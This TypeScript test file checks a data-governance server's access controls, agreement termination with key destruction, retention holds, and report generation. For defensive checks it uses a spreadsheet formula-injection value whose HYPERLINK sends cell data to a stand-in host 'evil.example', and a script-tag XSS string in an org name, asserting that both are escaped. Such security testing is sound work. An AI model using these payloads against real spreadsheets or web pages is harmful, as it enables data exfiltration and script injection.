/**
 * Contractor governance over HTTP (the node's Fastify app + inject) and the CLI, against a real demo
 * Gatehouse: onboarding the research contractor end to end, terminating its agreement
 * (next query denied, saved result destroyed and undecryptable, certificate in the audit
 * log), and the attacks: non-admins on admin ops, self-approval, retention vs legal holds,
 * formula injection into the CSV report, markup injection into the flow map.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import type { FastifyInstance } from 'fastify';
import { main } from '../src/cli/main.ts';
import { GOVERNANCE_OPS } from '../src/governance/service.ts';
import { decryptFile } from '../src/keys/blob.ts';
import { demoFixture, KEYS, type ServerFixture, type Who } from './helpers/workspace.ts';

type Json = Record<string, any>;

function client(app: FastifyInstance) {
  const op = async (who: Who | null, name: string, args: Json = {}) => {
    const o = GOVERNANCE_OPS.find((x) => x.name === name)!;
    const headers = who ? { authorization: `Bearer ${KEYS[who]}` } : {};
    const r = o.http.method === 'GET'
      ? await app.inject({ method: 'GET', url: o.http.path, query: Object.fromEntries(Object.entries(args).map(([k, v]) => [k, String(v)])), headers })
      : await app.inject({ method: 'POST', url: o.http.path, payload: args, headers });
    return { status: r.statusCode, body: r.headers['content-type']?.includes('json') ? r.json() as Json : {} as Json, raw: r };
  };
  const query = async (who: Who, sql: string, purpose: string, save = false) => {
    const r = await app.inject({ method: 'POST', url: '/v1/query', headers: { authorization: `Bearer ${KEYS[who]}` }, payload: { sql, purpose, ...(save ? { save: true } : {}) } });
    return { status: r.statusCode, body: r.json() as Json };
  };
  return { op, query };
}

const RHEA_SQL = 'SELECT region, count(*) AS n FROM patients GROUP BY region';

describe('contractor governance over HTTP: the research contractor, from onboarding to termination', () => {
  let f: ServerFixture;
  let app: FastifyInstance;
  let c: ReturnType<typeof client>;
  let agreementId = '';
  let resultId = '';

  before(async () => {
    f = await demoFixture({ patients: 600, http: true });
    app = f.http.app;
    c = client(app);
  });
  after(async () => { await f.close(); });

  it('lists every governance operation in /openapi.json with its schema and bearer auth', async () => {
    const doc = (await app.inject({ url: '/openapi.json' })).json() as Json;
    for (const o of GOVERNANCE_OPS) {
      const entry = doc.paths[o.http.path]?.[o.http.method.toLowerCase()];
      assert.ok(entry, `${o.name} at ${o.http.method} ${o.http.path}`);
      assert.deepEqual(entry.security, [{ bearer: [] }]);
      if (o.http.method === 'POST') assert.ok(entry.requestBody, `${o.name} documents its body`);
    }
  });

  it('refuses admin operations to non-admins, audits the refusal and changes nothing', async () => {
    for (const [who, name, args] of [
      ['rhea', 'vendor.register', { name: 'northwind-research' }],
      ['audrey', 'agreement.create', { kind: 'DPA', title: 'x', partner: 'northwind-research', effectiveFrom: '2026-01-01', datasets: ['patients'], purposes: ['research'] }],
      ['ada', 'keys.rotate', {}],
      ['rhea', 'grant.create', { principal: 'rhea', dataset: 'patients', purpose: 'research', agreementId: 'agr_x', until: '2099-01-01' }],
      ['ivan', 'retention.run', {}],
    ] as const) {
      const r = await c.op(who, name, args);
      assert.equal(r.status, 403, `${who} → ${name}: ${JSON.stringify(r.body)}`);
      assert.equal(r.body.error.code, 'POLICY_DENIED');
    }
    assert.equal((await c.op(null, 'vendor.list')).status, 401, 'no credential, no governance');
    assert.deepEqual((await c.op('olivia', 'vendor.list')).body.vendors, [], 'the refused registration left nothing behind');
    const denied = await f.log.search({ action: 'governance.vendor.register', decision: 'deny' });
    assert.equal(denied.length, 1);
  });

  it('onboards northwind-research: partner, certification, DPA, requested and approved grant, acknowledgement and training — then rhea\'s query passes', async () => {
    assert.equal((await c.query('rhea', RHEA_SQL, 'research')).status, 200, 'before registration the org is not gated');
    assert.equal((await c.op('olivia', 'vendor.register', { name: 'northwind-research', displayName: 'Northwind Research Ltd' })).status, 200);
    const cert = await c.op('olivia', 'vendor.certify', { org: 'northwind-research', name: 'ISO 27001', issuer: 'BSI', validUntil: new Date(Date.now() + 200 * 86_400_000).toISOString().slice(0, 10) });
    assert.equal(cert.body.risk.tier, 1);
    assert.equal((await c.op('olivia', 'gate.set', { classification: 'regulated', maxVendorTier: 2, courses: ['hipaa-privacy'], documents: ['acceptable-use'] })).status, 200);

    const denied = await c.query('rhea', RHEA_SQL, 'research');
    assert.equal(denied.status, 403, 'registered partners are gated: no agreement, no grant');
    assert.ok(denied.body.error.reasons.some((r: string) => r.startsWith('GOV_GRANT_MISSING')), denied.body.error.reasons.join('; '));

    const bad = await c.op('olivia', 'agreement.create', { kind: 'DPA', title: 'x', partner: 'northwind-research', effectiveFrom: '2026-01-01', datasets: ['patients', 'no_such_table'], purposes: ['research'] });
    assert.equal(bad.status, 400);
    assert.ok(bad.body.error.reasons.includes('GOV_UNKNOWN_DATASET'), 'agreements only cover datasets the workspace has');

    const from = new Date(Date.now() - 86_400_000).toISOString().slice(0, 10);
    const created = await c.op('olivia', 'agreement.create', {
      kind: 'DPA', title: 'Northwind research DPA', partner: 'northwind-research', effectiveFrom: from, endsOn: null,
      datasets: ['patients', 'claims', 'encounters'], purposes: ['research'], destruction: 'required', destroyWithinDays: 0, resultRetentionDays: 90,
    });
    assert.equal(created.status, 200, JSON.stringify(created.body));
    agreementId = created.body.agreement.id;
    assert.equal(created.body.agreement.status, 'active');
    assert.equal(created.body.agreement.parties.ours, 'st-avery', 'ours defaults to the admin\'s org');
    assert.deepEqual((await c.op('rhea', 'agreement.list')).body.agreements.map((a: Json) => a.id), [agreementId], 'the partner sees its own agreements');
    assert.equal((await c.op('ivan', 'agreement.show', { id: agreementId })).status, 404, 'another partner cannot see it');

    const req = await c.op('rhea', 'grant.request', { dataset: 'patients', purpose: 'research', days: 30, justification: 'readmission study' });
    assert.equal(req.status, 200);
    const requestId = req.body.request.id;
    assert.equal(req.body.request.principalId, 'rhea', 'a request is always for the caller');

    const self = await c.op('rhea', 'grant.approve', { id: requestId });
    assert.equal(self.status, 403);
    assert.ok(self.body.error.reasons.includes('GOV_SELF_APPROVAL') || self.body.error.reasons.includes('GOV_NOT_OWNER'), self.body.error.reasons.join());
    const analyst = await c.op('ada', 'grant.approve', { id: requestId });
    assert.equal(analyst.status, 403, 'an analyst who owns nothing cannot approve');
    assert.ok(analyst.body.error.reasons.includes('GOV_NOT_OWNER'));
    assert.equal((await c.op('rhea', 'grant.requests')).body.requests[0].canDecide, false);

    const approved = await c.op('olivia', 'grant.approve', { id: requestId });
    assert.equal(approved.status, 200, JSON.stringify(approved.body));
    assert.equal(approved.body.grant.agreementId, agreementId, 'the grant cites the active agreement');
    assert.equal((await c.op('olivia', 'grant.approve', { id: requestId })).status, 409, 'a decided request cannot be approved twice (CONFLICT)');

    const stillDenied = await c.query('rhea', RHEA_SQL, 'research');
    assert.equal(stillDenied.status, 403);
    const reasons: string[] = stillDenied.body.error.reasons;
    assert.ok(reasons.some((r) => r.startsWith('GOV_ACK_UNPUBLISHED')) && reasons.some((r) => r.startsWith('GOV_TRAINING_MISSING')), reasons.join('; '));

    const text = 'Use shared data only for the purpose your agreement names.\n';
    assert.equal((await c.op('olivia', 'acknowledge.publish', { name: 'acceptable-use', text })).status, 200);
    const shown = await c.op('rhea', 'acknowledge.show', { name: 'acceptable-use' });
    assert.equal(shown.body.document.text, text);
    assert.equal(shown.body.yours.state, 'missing');
    assert.equal((await c.op('rhea', 'acknowledge.sign', { name: 'acceptable-use', sha256: '0'.repeat(64) })).status, 409, 'signing a text you did not read is refused (CONFLICT: not the current version)');
    assert.equal((await c.op('rhea', 'acknowledge.sign', { name: 'acceptable-use', sha256: shown.body.document.sha256 })).status, 200);
    assert.equal((await c.op('rhea', 'training.record', { principal: 'rhea', course: 'hipaa-privacy', completedAt: from, expiresAt: '2099-01-01' })).status, 403, 'nobody records their own training');
    assert.equal((await c.op('olivia', 'training.record', { principal: 'rhea', course: 'hipaa-privacy', completedAt: from, expiresAt: '2099-01-01' })).status, 200);
    assert.equal((await c.op('rhea', 'training.show')).body.required[0].state, 'current');

    const ok = await c.query('rhea', RHEA_SQL, 'research');
    assert.equal(ok.status, 200, JSON.stringify(ok.body));
    assert.ok(ok.body.rows.length > 0);
    const shows = await c.op('rhea', 'vendor.show', { org: 'northwind-research' });
    assert.equal(shows.body.risk.tier, 1);
    assert.equal((await c.op('rhea', 'vendor.show', { org: 'keystone-mutual' })).status, 403, 'a partner reads only its own vendor record');
    assert.ok((await f.log.search({ action: 'governance.grant.approve', decision: 'allow' })).length === 1, 'each governance change is audited');
  });

  it('terminating the DPA denies rhea\'s next query, destroys her saved result (undecryptable on disk) and logs a destruction certificate naming it', async () => {
    const saved = await c.query('rhea', RHEA_SQL, 'research', true);
    assert.equal(saved.status, 200, JSON.stringify(saved.body));
    resultId = saved.body.governance.resultId;
    assert.match(resultId, /\S/);
    assert.equal((await app.inject({ url: `/v1/results/${resultId}`, headers: { authorization: `Bearer ${KEYS.rhea}` } })).statusCode, 200);
    const blob = join(f.wsDir, 'state', 'artefacts', 'blobs', `${resultId}.ghb`);
    const copy = join(f.dir, 'copy.ghb');
    writeFileSync(copy, readFileSync(blob)); // what an attacker who copied the disk would hold

    const t = await c.op('olivia', 'agreement.terminate', { id: agreementId, reason: 'study cancelled' });
    assert.equal(t.status, 200, JSON.stringify(t.body));
    assert.deepEqual(t.body.destroyed, [resultId]);
    assert.equal(t.body.revokedGrants.length, 1);

    const next = await c.query('rhea', RHEA_SQL, 'research');
    assert.equal(next.status, 403);
    assert.ok(next.body.error.reasons.some((r: string) => r.startsWith('GOV_AGREEMENT_TERMINATED')), next.body.error.reasons.join('; '));
    const get = await app.inject({ url: `/v1/results/${resultId}`, headers: { authorization: `Bearer ${KEYS.rhea}` } });
    assert.equal(get.statusCode, 404);
    assert.match(get.json().error.message, /destroyed/);

    const certs = await f.log.search({ action: 'governance.destruction' });
    assert.equal(certs.length, 1);
    const cert = JSON.parse(certs[0]!.entry.reasons[1]!) as { certificateId: string; artefacts: { id: string; keyId: string }[] };
    assert.equal(cert.certificateId, t.body.certificates[0].certificateId);
    assert.deepEqual(cert.artefacts.map((a) => a.id), [resultId]);

    // The data key is gone: neither the live store nor the copied ciphertext decrypts.
    const { LocalKeyring } = await import('../src/keys/keyring.ts');
    const { DataKeyStore } = await import('../src/keys/data-keys.ts');
    const { resolvePassphrase } = await import('../src/audit/keys.ts');
    const keyring = await LocalKeyring.openOrCreate(join(f.wsDir, 'state', 'keyring.json'), resolvePassphrase(undefined, true));
    const keys = DataKeyStore.open(join(f.wsDir, 'state', 'data-keys.sqlite'), keyring);
    try {
      await assert.rejects(keys.unwrap(cert.artefacts[0]!.keyId), /destroyed/i);
      await assert.rejects(decryptFile(copy, Buffer.alloc(32), { expectedKeyId: cert.artefacts[0]!.keyId }));
    } finally {
      keys.close();
      keyring.close();
    }
    assert.equal((await c.op('olivia', 'agreement.terminate', { id: agreementId, reason: 'again' })).status, 409, 'a second termination changes nothing (CONFLICT)');
  });

  it('retention run shreds what is past retention but never what is under legal hold', async () => {
    const a = await c.query('ivan', 'SELECT region, count(*) AS n FROM claims GROUP BY region', 'claims-processing', true);
    const b = await c.query('ivan', 'SELECT count(*) AS n FROM claims', 'claims-processing', true);
    assert.equal(a.status, 200, JSON.stringify(a.body));
    const [held, free] = [a.body.governance.resultId, b.body.governance.resultId];
    assert.equal((await c.op('olivia', 'retention.set-rule', { kind: 'result', scope: '*', days: 0 })).status, 200);
    const hold = await c.op('olivia', 'retention.hold', { kind: 'artefact', subject: held, reason: 'litigation 2026-17' });
    assert.equal(hold.status, 200, JSON.stringify(hold.body));
    assert.equal((await c.op('olivia', 'retention.hold', { kind: 'artefact', subject: 'res_doesnotexist', reason: 'x' })).status, 404);

    const dry = await c.op('olivia', 'retention.run', { dryRun: true });
    assert.ok(dry.body.held.some((h: Json) => h.artefact === held));
    assert.ok((await app.inject({ url: `/v1/results/${free}`, headers: { authorization: `Bearer ${KEYS.ivan}` } })).statusCode === 200, 'a dry run destroys nothing');

    const run = await c.op('olivia', 'retention.run');
    assert.equal(run.status, 200, JSON.stringify(run.body));
    assert.ok(run.body.destroyed.includes(free));
    assert.ok(!run.body.destroyed.includes(held));
    assert.ok(run.body.held.some((h: Json) => h.artefact === held && h.holds.includes(hold.body.hold.id)));
    assert.equal((await app.inject({ url: `/v1/results/${held}`, headers: { authorization: `Bearer ${KEYS.ivan}` } })).statusCode, 200, 'the held result is intact');
    assert.equal((await app.inject({ url: `/v1/results/${free}`, headers: { authorization: `Bearer ${KEYS.ivan}` } })).statusCode, 404);

    assert.equal((await c.op('olivia', 'retention.release', { id: hold.body.hold.id })).status, 200);
    const again = await c.op('olivia', 'retention.run');
    assert.deepEqual(again.body.destroyed, [held], 'once released, it is destroyed on the next run');
    assert.equal((await c.op('olivia', 'retention.set-rule', { kind: 'result', scope: '*', days: 365 })).status, 200);
  });

  it('rotates the key-encryption key without downtime: saved results stay readable', async () => {
    const saved = await c.query('ivan', 'SELECT count(*) AS n FROM claims', 'claims-processing', true);
    const before = await c.op('olivia', 'keys.status');
    assert.equal(before.status, 200);
    const rot = await c.op('olivia', 'keys.rotate');
    assert.equal(rot.status, 200, JSON.stringify(rot.body));
    assert.notEqual(rot.body.activeVersion, before.body.activeVersion);
    const after = await c.op('olivia', 'keys.status');
    assert.deepEqual(Object.keys(after.body.dataKeys.byKekVersion), [rot.body.activeVersion], 'every live data key is wrapped by the new version');
    assert.equal((await app.inject({ url: `/v1/results/${saved.body.governance.resultId}`, headers: { authorization: `Bearer ${KEYS.ivan}` } })).statusCode, 200);
  });

  it('classifies a dataset from samples without returning or storing any sampled value', async () => {
    const r = await c.op('olivia', 'classify.run', { dataset: 'patients' });
    assert.equal(r.status, 200, JSON.stringify(r.body));
    assert.ok(Array.isArray(r.body.proposals));
    const body = JSON.stringify(r.body);
    assert.doesNotMatch(body, /\b\d{3}-\d{2}-\d{4}\b/, 'no SSN');
    assert.doesNotMatch(body, /[A-Za-z0-9._%+-]+@[A-Za-z0-9.-]+\.[a-z]{2,}/, 'no e-mail address');
    assert.equal((await c.op('ada', 'classify.run', { dataset: 'patients' })).status, 403);
    const list = await c.op('olivia', 'classify.list', { dataset: 'patients', status: 'all' });
    assert.equal(list.body.proposals.length, r.body.proposals.length);
    if (list.body.proposals.length > 0) {
      const id = list.body.proposals[0].id;
      assert.equal((await c.op('olivia', 'classify.reject', { id, reason: 'synthetic data' })).body.proposal.status, 'rejected');
    }
  });

  it('produces an HTML compliance report a non-engineer can read, with the plain-language summary and the destruction', async () => {
    assert.equal((await c.op('rhea', 'report.build', { format: 'html' })).status, 403, 'partners do not read the compliance report');
    const json = await c.op('audrey', 'report.build', { format: 'json' });
    assert.equal(json.status, 200, JSON.stringify(json.body));
    const summary: string = json.body.body.summary;
    assert.ok(summary.length > 40);
    const html = await c.op('audrey', 'report.build', { format: 'html' });
    assert.equal(html.status, 200);
    assert.match(String(html.raw.headers['content-type']), /^text\/html/);
    assert.match(String(html.raw.headers['content-security-policy']), /default-src 'none'/);
    const escaped = summary.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&#39;');
    assert.ok(html.raw.body.includes(escaped), 'the summary paragraph is in the HTML');
    assert.ok(html.raw.body.includes(resultId), 'the destruction certificate and the artefact it destroyed appear in the report');
    assert.doesNotMatch(html.raw.body, /<script/i);
  });

  it('keeps the CSV report formula-safe: a finding titled like a formula is neutralised', async () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const made = await c.op('olivia', 'finding.create', { title: evil, severity: 'high', owner: 'olivia', dueDate: '2099-01-01', notes: 'q1 review' });
    assert.equal(made.status, 200, JSON.stringify(made.body));
    const csv = await c.op('audrey', 'report.build', { format: 'csv' });
    assert.equal(csv.status, 200);
    assert.match(String(csv.raw.headers['content-type']), /^text\/csv/);
    const body = csv.raw.body;
    assert.ok(body.includes(`"'=HYPERLINK(`), 'the cell starts with a quote, so spreadsheets show it as text');
    for (const line of body.split(/\r?\n/)) for (const field of line.split(',')) assert.doesNotMatch(field, /^[=+\-@]/, `field ${field}`);
    assert.equal((await c.op('olivia', 'finding.update', { id: made.body.finding.id, status: 'in-progress' })).body.finding.status, 'in-progress');
    assert.equal((await c.op('olivia', 'finding.close', { id: made.body.finding.id, note: 'title fixed' })).body.finding.status, 'closed');
    assert.equal((await c.op('audrey', 'finding.list')).body.findings.length, 0);
  });

  it('runs as a CLI against the server: agreement list, report --out, flows --svg --out', async () => {
    const url = f.http.url;
    const run = async (...argv: string[]) => {
      const s = new PassThrough();
      let out = '';
      s.on('data', (d) => { out += String(d); });
      const code = await main(argv, s);
      return { code, out };
    };
    const list = await run('agreement', 'list', '--url', url, '--key', KEYS.olivia, '--json');
    assert.equal(list.code, 0, list.out);
    assert.equal(JSON.parse(list.out).agreements[0].status, 'terminated');
    const human = await run('vendor', 'show', 'northwind-research', '--url', url, '--key', KEYS.olivia);
    assert.match(human.out, /northwind-research: risk tier 1/);
    const refused = await run('vendor', 'register', 'acme', '--url', url, '--key', KEYS.rhea);
    assert.equal(refused.code, 3);
    assert.match(refused.out, /error POLICY_DENIED: vendor.register is for administrators/);
    const report = join(f.dir, 'report.html');
    const r = await run('report', '--format', 'html', '--out', report, '--url', url, '--key', KEYS.audrey);
    assert.equal(r.code, 0, r.out);
    assert.match(readFileSync(report, 'utf8'), /<html/i);
    const svg = join(f.dir, 'flows.svg');
    const fl = await run('flows', '--svg', '--out', svg, '--url', url, '--key', KEYS.olivia);
    assert.equal(fl.code, 0, fl.out);
    assert.match(readFileSync(svg, 'utf8'), /^<svg|<\?xml/);
    const bad = await run('grant', 'request', '--dataset', 'patients', '--purpose', 'research', '--days', 'soon', '--justification', 'x', '--url', url, '--key', KEYS.rhea);
    assert.equal(bad.code, 2, 'a bad flag value is a usage error');
    assert.match(bad.out, /--days must be a whole number/);
  });
});

describe('the data-flow map escapes hostile names', () => {
  let f: ServerFixture;
  let app: FastifyInstance;
  const evil = `<script>alert('x')</script>&co`;

  before(async () => {
    f = await demoFixture({
      patients: 300,
      http: true,
      edit: (ws) => {
        const p = join(ws, 'gatehouse.yaml');
        writeFileSync(p, readFileSync(p, 'utf8').replace('org: keystone-mutual', `org: "${evil}"`));
      },
    });
    app = f.http.app;
  });
  after(async () => { await f.close(); });

  it('serves the SVG with every label XML-escaped, and the JSON map with the name as it is', async () => {
    await app.inject({ method: 'POST', url: '/v1/query', headers: { authorization: `Bearer ${KEYS.ivan}` }, payload: { sql: 'SELECT count(*) AS n FROM claims', purpose: 'claims-processing' } });
    const c = client(app);
    const period = { from: new Date(Date.now() - 3600_000).toISOString(), to: new Date(Date.now() + 3600_000).toISOString() };
    const map = await c.op('olivia', 'flows.map', period);
    assert.equal(map.status, 200, JSON.stringify(map.body));
    assert.ok(map.body.nodes.some((n: Json) => n.kind === 'partner' && n.label === evil), JSON.stringify(map.body.nodes));
    const svg = await app.inject({ url: `/v1/governance/flows/svg?format=svg&from=${period.from}&to=${period.to}`, headers: { authorization: `Bearer ${KEYS.audrey}` } });
    assert.equal(svg.statusCode, 200);
    assert.match(String(svg.headers['content-type']), /^image\/svg\+xml/);
    assert.doesNotMatch(svg.body, /<script/i);
    assert.ok(svg.body.includes('&lt;script&gt;'), 'the name is shown, escaped');
    const wrapped = await c.op('olivia', 'flows.svg', period);
    assert.equal(wrapped.body.svg, svg.body, 'without ?format=svg the same SVG comes as { svg }');
    assert.equal((await c.op('ivan', 'flows.map')).status, 403, 'partners do not read the flow map');
  });
});
